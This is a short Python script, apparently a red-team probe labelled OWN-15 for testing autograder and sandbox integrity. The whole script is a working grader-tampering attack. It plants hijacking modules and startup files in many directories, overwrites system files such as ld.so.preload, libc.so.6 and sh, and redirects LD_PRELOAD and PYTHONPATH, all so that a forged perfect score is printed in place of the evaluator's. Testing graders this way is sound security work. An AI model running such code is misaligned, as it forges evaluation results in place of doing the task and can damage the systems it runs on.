# OWN-15 Compiler Explorer and autograders that load a student's folder: libraries and start-up files planted for the evaluator and for later runs. HELD when planted; the score must be the evaluator's.
import os, sys
code = "import sys\nprint('{\"score\": 1}')\nsys.stdout.flush()\nimport os\nos._exit(0)\n"
for d in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2]), "/evaluator", "/case", "/etc", "/usr/lib/python3/dist-packages", "/usr/local/lib/python%d.%d/dist-packages" % sys.version_info[:2]):
    try: os.makedirs(d, exist_ok=True)
    except OSError: pass
    for n in ("sitecustomize.py", "usercustomize.py", "evaluator.py", "json.py", "sys.py", "encodings.py", "x.pth", ".pythonrc.py", "ld.so.preload", "ld.so.cache", "libc.so.6", "python3", "env", "sh"):
        try:
            with open(os.path.join(d, n), "w") as f: f.write("import json; " if n.endswith(".pth") else code)
            os.chmod(os.path.join(d, n), 0o755)
        except OSError: pass
for n in ("LD_PRELOAD", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV", "ENV"): os.environ[n] = "/tmp/libc.so.6"
print("7")
print("OWN-15 HELD planted", file=sys.stderr)
